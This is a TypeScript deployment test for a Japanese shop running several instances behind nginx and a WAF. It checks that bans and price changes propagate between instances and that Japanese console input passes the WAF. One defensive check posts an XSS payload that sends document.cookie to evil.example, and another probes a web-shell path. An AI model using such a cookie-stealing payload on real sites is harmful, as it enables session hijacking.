// deploy/test/run's checks across instances and of the console through the WAF (README "Production", "Several
// instances"): a ban made by instance A is enforced by B and C and by nginx's path to them; a price changed through
// A's console is on B's and C's product pages (their catalog caches dropped by NOTIFY); Japanese console input passes
// the console's paranoia-level-2 rules, and an attack in the same fields is still blocked.
import http from 'node:http';
import { Kysely, PostgresDialect } from 'kysely';
import type pg from 'pg';
import { createSession } from '../../src/identity/sessions/sessions.ts';
import type { Database } from '../../src/platform/db/schema.ts';

export interface Instance { i: number; port: number; adminPort: number }
export type Answer = { status: number; text: string; headers: Record<string, string | string[] | undefined> };
export interface Harness {
  db: pg.Pool;
  instances: Instance[];
  edgeSecret: string;
  /** HTTPS through nginx (host name given, source address given). */
  viaProxy(method: string, path: string, opts?: { headers?: Record<string, string>; body?: string; host?: string; localAddress?: string }): Promise<Answer>;
  check(ok: boolean, what: string): void;
  waitFor(cond: () => Promise<boolean>, timeoutMs: number, what: string): Promise<void>;
  report: Record<string, unknown>;
}

/** A TEST-NET-1 address on the namespace's loopback (deploy/test/run adds it): a client that is not a local network. */
export const outsideAddress = '192.0.2.10';
export const publicAddress = '10.203.0.1';

/** Straight to one instance, as nginx would send it (edge secret, forwarded address): to ask a chosen instance. */
export function direct(h: Harness, port: number, method: string, path: string, opts: { ip?: string; host?: string; headers?: Record<string, string>; body?: string } = {}): Promise<Answer> {
  return new Promise((resolve) => {
    const headers = { host: opts.host ?? 'shop.test', 'x-omamori-edge': h.edgeSecret, 'x-forwarded-for': opts.ip ?? '127.0.0.1', 'x-forwarded-proto': 'https', 'x-forwarded-host': opts.host ?? 'shop.test', 'accept-language': 'ja', ...opts.headers, ...(opts.body === undefined ? {} : { 'content-length': String(Buffer.byteLength(opts.body)) }) };
    const req = http.request({ host: '127.0.0.1', port, method, path, headers, timeout: 15_000 }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8'), headers: res.headers }));
      res.on('error', () => resolve({ status: 0, text: '', headers: {} }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', () => resolve({ status: 0, text: '', headers: {} }));
    req.end(opts.body);
  });
}

/** A console session of a new owner, made in the database as a signed-in, 2FA-complete, stepped-up one would be. */
export async function staffCookie(h: Harness): Promise<string> {
  const kdb = new Kysely<Database>({ dialect: new PostgresDialect({ pool: h.db }) });
  const staff = await kdb.insertInto('staff').values({ email: `deploy-test-${Date.now()}@example.jp`, name: '検証スタッフ', password_hash: 'not-a-hash:deploy-test-only', role: 'owner', totp_enabled_at: new Date() }).returning('id').executeTakeFirstOrThrow();
  const now = new Date();
  const token = await createSession(kdb as never, 'admin', { staffId: staff.id }, {}, { secondFactorAt: now, stepUpAt: now });
  return `__Host-admin=${token}`;
}

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
// As a browser sends it (CRS 920320 at PL2 refuses a request without a User-Agent).
const formHeaders = (cookie: string) => ({ cookie, origin: 'https://admin.shop.test', 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html,application/xhtml+xml', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36' });

/** A ban made by a detector on instance A (a web-shell probe from an outside address) is enforced everywhere. */
export async function banAcrossInstances(h: Harness, slug: string) {
  const [a, b, c] = h.instances as [Instance, Instance, Instance];
  for (const x of [b, c]) h.check((await direct(h, x.port, 'GET', `/p/${encodeURIComponent(slug)}`, { ip: outsideAddress })).status === 200, `instance ${x.i} serves ${outsideAddress} before the ban`);
  const started = Date.now();
  const probe = await direct(h, a.port, 'GET', '/wso.php', { ip: outsideAddress });
  h.check(probe.status === 404 || probe.status === 403, `instance ${a.i}: a web-shell probe from ${outsideAddress} (${probe.status}) is a backdoor probe: banned by its detector`);
  const times: Record<string, number> = {};
  for (const x of [b, c]) {
    await h.waitFor(async () => (await direct(h, x.port, 'GET', `/p/${encodeURIComponent(slug)}`, { ip: outsideAddress })).status === 403, 10_000, `instance ${x.i} refuses the banned address`).catch(() => {});
    const res = await direct(h, x.port, 'GET', `/p/${encodeURIComponent(slug)}`, { ip: outsideAddress });
    times[`instance${x.i}`] = Date.now() - started;
    h.check(res.status === 403, `the ban made on instance ${a.i} is enforced by instance ${x.i}: ${res.status} after ${times[`instance${x.i}`]} ms`);
  }
  const others = await direct(h, b.port, 'GET', `/p/${encodeURIComponent(slug)}`);
  h.check(others.status === 200, `other clients still served on instance ${b.i}: ${others.status}`);
  const through = await h.viaProxy('GET', `/p/${encodeURIComponent(slug)}`, { localAddress: outsideAddress });
  h.check(through.status === 403 && !through.text.includes('<center>nginx</center>'), `through nginx from ${outsideAddress}: refused by the store's ban (${through.status}), on whichever instance`);
  const ban = (await h.db.query(`select count(*)::int as n from security_event where kind = 'ban.added'`)).rows[0]?.n;
  h.report.banAcrossInstances = { msUntilEnforced: times, banEvents: ban };
}

/** A price changed through instance A's console shows on B's and C's product pages, whose caches held the old one. */
export async function priceAcrossInstances(h: Harness, cookie: string, slug: string) {
  const [a, b, c] = h.instances as [Instance, Instance, Instance];
  const v = (await h.db.query(`select v.id, v.product_id, v.sku, v.name_ja, v.name_en, v.price, v.jan_code from variant v join product p on p.id = v.product_id where p.slug = $1 order by v.position limit 1`, [slug])).rows[0];
  const page = `/p/${encodeURIComponent(slug)}`;
  for (const x of [b, c]) await direct(h, x.port, 'GET', page); // cached on B and C now
  const price = Number(v.price) + 111;
  const shown = new Intl.NumberFormat('ja-JP').format(price);
  const started = Date.now();
  const saved = await direct(h, a.adminPort, 'POST', `/admin/products/${v.product_id}/variants/${v.id}`, { host: 'admin.shop.test', headers: formHeaders(cookie), body: form({ sku: v.sku, name_ja: v.name_ja, name_en: v.name_en, price: String(price), jan_code: v.jan_code ?? '' }) });
  h.check(saved.status === 303, `price changed through instance ${a.i}'s console: ${saved.status}`);
  const times: Record<string, number> = {};
  for (const x of [b, c]) {
    await h.waitFor(async () => (await direct(h, x.port, 'GET', page)).text.includes(shown), 10_000, `new price on instance ${x.i}`).catch(() => {});
    times[`instance${x.i}`] = Date.now() - started;
    h.check((await direct(h, x.port, 'GET', page)).text.includes(shown), `instance ${x.i} shows the new price ¥${shown} (its cache dropped) after ${times[`instance${x.i}`]} ms`);
  }
  h.report.priceAcrossInstances = { msUntilShown: times };
}

/** Real console input in Japanese through nginx (admin host, paranoia level 2): saved, not refused by the WAF. */
export const consoleProducts = [
  { name_ja: '深煎り ブレンド（200g）', name_en: 'Dark roast blend (200 g)', description_ja: '「苦味とコク」を大切にした深煎りです。\n・内容量：200g（約20杯分）\n・賞味期限：製造から90日\n※ 開封後はお早めに。' },
  { name_ja: '有田焼 マグカップ ＜藍＞', name_en: 'Arita mug <Ai>', description_ja: '職人が一つずつ絵付けした有田焼のマグです。電子レンジ・食洗機OK。容量 約350ml / 重さ 320g。\n-- 手描きのため柄は一点ごとに異なります --' },
  { name_ja: '今治タオル ギフトセット 3枚組', name_en: 'Imabari towel gift set of 3', description_ja: '綿100%。「5秒ルール」（水に浮かべて5秒以内に沈む）をクリアした吸水性。のし・包装 承ります（無料）。サイズ：34×80cm' },
  { name_ja: '抹茶 パウダー 100g 【宇治産】', name_en: 'Matcha powder 100 g (Uji)', description_ja: 'select 品質の一番茶だけを石臼で挽きました。お菓子作りや & ラテにも。\n保存方法：直射日光・高温多湿を避けて保存してください。' },
  { name_ja: '南部鉄器 急須 0.65L', name_en: 'Nanbu cast-iron teapot 0.65 L', description_ja: '岩手・盛岡の工房で作られた南部鉄器です。内側はホーロー加工。"IH 不可" — 直火・ガス火でお使いください。価格は税込です; 送料は別途。' },
];

export async function consoleInput(h: Harness, cookie: string) {
  const opts = (body: string) => ({ host: 'admin.shop.test', headers: formHeaders(cookie), body });
  const refused: string[] = [];
  let saved = 0;
  for (const [n, p] of consoleProducts.entries()) {
    const fields = { slug: `deploy-test-${Date.now().toString(36)}-${n}`, ...p, description_en: `${p.name_en}. Handmade in Japan.`, category_id: '', tax_class: n === 0 || n === 3 ? 'reduced' : 'standard', position: String(n) };
    const created = await h.viaProxy('POST', '/admin/products', opts(form(fields)));
    if (created.status === 403) { refused.push(`create ${n}: ${created.text.includes('<center>nginx</center>') ? 'WAF' : 'store'}`); continue; }
    const id = /\/admin\/products\/(\d+)/.exec(String(created.headers.location ?? ''))?.[1];
    if (created.status !== 303 || !id) { refused.push(`create ${n}: ${created.status}`); continue; }
    saved++;
    const updated = await h.viaProxy('POST', `/admin/products/${id}`, opts(form({ ...fields, description_ja: `${p.description_ja}\n【更新】在庫を追加しました！` })));
    if (updated.status !== 303) refused.push(`update ${n}: ${updated.status}${updated.text.includes('<center>nginx</center>') ? ' WAF' : ''}`);
    else saved++;
    const variant = await h.viaProxy('POST', `/admin/products/${id}/variants`, opts(form({ sku: `DT-${Date.now().toString(36)}-${n}`.toUpperCase(), name_ja: '通常（1個）', name_en: 'Regular (1 pc)', price: '１，９８０', stock: '10', jan_code: '' })));
    if (variant.status !== 303) refused.push(`variant ${n}: ${variant.status}${variant.text.includes('<center>nginx</center>') ? ' WAF' : ''}`);
    else saved++;
  }
  h.report.consoleInput = { saved, refused };
  h.check(refused.length === 0, `console (PL2) through nginx: ${saved} Japanese product, update and variant forms saved, ${refused.length} refused${refused.length ? ` (${refused.join('; ')})` : ''}`);
  // The exclusions are per rule and field: an attack in the same field is still the WAF's to block.
  const attack = await h.viaProxy('POST', '/admin/products', opts(form({ slug: 'deploy-test-xss', ...consoleProducts[0]!, description_ja: '美味しい<script>fetch("//evil.example/"+document.cookie)</script>', description_en: 'x', category_id: '', tax_class: 'reduced', position: '0' })));
  h.check(attack.status === 403 && attack.text.includes('<center>nginx</center>'), `console: a script in the same description field is still blocked by the WAF: ${attack.status}`);
}
